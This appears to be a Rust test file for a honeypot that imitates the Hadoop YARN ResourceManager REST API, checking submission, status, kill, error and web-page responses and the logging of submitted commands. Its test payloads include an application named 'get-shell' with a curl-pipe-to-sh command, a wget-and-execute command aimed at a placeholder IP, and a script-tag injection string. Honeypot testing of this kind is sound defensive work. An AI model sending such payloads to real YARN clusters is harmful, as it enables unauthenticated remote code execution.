//! YARN.

use serde_json::{Value, json};

use super::*;

#[test]
fn yarn_takes_an_application_and_shows_it_afterwards() {
    let new = "POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: rm:8088\r\nContent-Length: 0\r\n\r\n";
    let first = ask("hadoop", "", new.repeat(2));
    let ids: Vec<Value> = answers(&first)
        .iter()
        .map(|answer| serde_json::from_str::<Value>(&answer.2).unwrap()["application-id"].clone())
        .collect();
    assert!(ids[0].as_str().unwrap() < ids[1].as_str().unwrap(), "{ids:?}");
    let id = ids[0].as_str().unwrap();
    let submit = post(
        "/ws/v1/cluster/apps",
        "application/json",
        &json!({"application-id": id, "application-name": "get-shell",
        "am-container-spec": {"commands": {"command": "curl http://192.0.2.9/x.sh | sh"}}, "application-type": "YARN"})
        .to_string(),
    );
    let show = format!("GET /ws/v1/cluster/apps/{id} HTTP/1.1\r\nHost: x\r\n\r\n");
    let steps = [
        Step::Recv(submit.as_bytes()),
        Step::Recv(show.as_bytes()),
        Step::Wait(10_000),
        Step::Recv(show.as_bytes()),
        Step::Wait(49_000),
        Step::Recv(show.as_bytes()),
    ];
    let outcome = Transcript::tcp("hadoop", "").run(&steps);
    let all = answers(&outcome);
    assert_eq!(all[0].0, 202);
    assert!(all[0].1.contains(&format!("Location: http://x/ws/v1/cluster/apps/{id}")));
    let states: Vec<String> = all[1..]
        .iter()
        .map(|answer| serde_json::from_str::<Value>(&answer.2).unwrap()["app"]["state"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(states, ["ACCEPTED", "RUNNING", "FINISHED"]);
    assert_eq!(outcome.the_event("command").fields["command"], "curl http://192.0.2.9/x.sh | sh");
}

#[test]
fn yarn_tells_what_it_is_and_what_it_does_not_have() {
    let (status, head, body) = get("hadoop", "/ws/v1/cluster/info");
    assert!(status == 200 && head.contains("Transfer-Encoding: chunked\r\nServer: Jetty(6.1.26)"));
    assert_eq!(serde_json::from_str::<Value>(&body).unwrap()["clusterInfo"]["state"], "STARTED");
    assert!(get("hadoop", "/cluster/cluster").2.contains("ResourceManager state:"));
    assert_eq!(get("hadoop", "/nope").0, 404);
    assert!(get("hadoop", "/ws/v1/cluster/apps/application_1_0001").2.contains("NotFoundException"));
}

#[test]
fn an_application_in_xml_for_a_named_user_is_recorded_shown_and_killed() {
    let body = "<application-submission-context><application-id>application_1_0007</application-id>\
        <application-name>hello</application-name><application-type>YARN</application-type><am-container-spec><commands>\
        <command>wget -q http://192.0.2.9/h2.sh -O - &amp;&amp; id</command></commands></am-container-spec></application-submission-context>";
    let ask = |path: &str| format!("GET /ws/v1/cluster/{path} HTTP/1.1\r\nHost: x\r\n\r\n");
    let kill = "{\"state\":\"KILLED\"}";
    let put = format!(
        "PUT /ws/v1/cluster/apps/application_1_0007/state HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{kill}",
        kill.len()
    );
    let outcome = answered(
        "hadoop",
        0,
        &[
            (post("/ws/v1/cluster/apps?user.name=hdfs", "application/xml", body), 202, ""),
            (ask("apps/application_1_0007"), 200, "\"user\":\"hdfs\""),
            (ask("apps?states=ACCEPTED,RUNNING"), 200, "application_1_0007"),
            (ask("apps?user=root"), 200, "{\"apps\":null}"),
            (ask("apps/application_1_0007/appattempts"), 200, "appattempt_1_0007_000001"),
            (ask("apps/application_1_0007/appattempts/1/containers"), 200, "container_1_0007_01_000001"),
            (ask("apps/application_1_0007/queue"), 200, "{\"queue\":\"default\"}"),
            (put, 202, "KILLED"),
            (ask("metrics"), 200, "\"appsKilled\":1"),
            (ask("appstatistics"), 200, "{\"state\":\"KILLED\",\"type\":\"*\",\"count\":1}"),
        ],
    );
    assert_eq!(outcome.the_event("command").fields["command"], "wget -q http://192.0.2.9/h2.sh -O - && id");
}

#[test]
fn what_no_service_has_or_takes_is_refused_as_jersey_refuses_it() {
    let ask =
        |method: &str, path: &str| format!("{method} {path} HTTP/1.1\r\nHost: rm:8088\r\nContent-Length: 0\r\n\r\n");
    answered(
        "hadoop",
        0,
        &[
            (ask("GET", "/ws/v1/cluster/nope"), 404, "null for uri: http://rm:8088/ws/v1/cluster/nope"),
            (ask("DELETE", "/ws/v1/cluster/info"), 405, "javax.ws.rs.WebApplicationException"),
            (ask("GET", "/ws/v1/cluster/apps/nope"), 400, "Invalid ApplicationId: nope"),
            (ask("GET", "/ws/v1/cluster/nodes/x:1"), 404, "nodeId, x:1, is not found"),
            (ask("POST", "/ws/v1/cluster/delegation-token"), 403, "Kerberos authenticated channel"),
            (ask("GET", "/conf"), 200, "<name>hadoop.security.authentication</name><value>simple</value>"),
            (ask("GET", "/jmx"), 200, "Hadoop:service=ResourceManager,name=RMInfo"),
            (ask("GET", "/cluster/apps/FINISHED"), 200, "FINISHED Applications"),
            (ask("GET", "/static/yarn.css"), 200, "#navcell"),
        ],
    );
    let xml = "GET /ws/v1/cluster/info HTTP/1.1\r\nHost: x\r\nAccept: application/xml\r\n\r\n";
    let (_, head, body) = answers(&super::ask("hadoop", "", xml)).remove(0);
    assert!(
        head.contains("Content-Type: application/xml\r\nContent-Length: ") && body.contains("<state>STARTED</state>"),
        "{body}"
    );
}

#[test]
fn the_pages_show_what_the_cluster_does() {
    let body = "{\"application-id\":\"application_1_0009\",\"application-name\":\"a</script>b\",\"application-type\":\"YARN\",\"am-container-spec\":{\"commands\":{\"command\":\"id\"}}}";
    let ask = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n");
    answered(
        "hadoop",
        0,
        &[
            (post("/ws/v1/cluster/apps", "application/json", body), 202, ""),
            (ask("/cluster"), 200, "Cluster Metrics"),
            (ask("/cluster/apps"), 200, "a&lt;\\/script&gt;b"),
            (
                ask("/cluster/apps/ACCEPTED"),
                200,
                "[\"<a href='/cluster/app/application_1_0009'>application_1_0009</a>\",\"dr.who\"",
            ),
            (ask("/cluster/apps/KILLED"), 200, "var appsTableData=[\n]"),
            (ask("/cluster/app/application_1_0009"), 200, "ACCEPTED: waiting for AM container to be allocated"),
            (ask("/cluster/app/nope"), 200, "Invalid Application ID: nope"),
            (ask("/cluster/scheduler"), 200, "'default' Queue Status"),
            (ask("/cluster/nodes"), 200, "/default-rack"),
            (ask("/cluster/nodelabels"), 200, "DEFAULT_PARTITION"),
            (ask("/metrics"), 200, ""),
        ],
    );
}
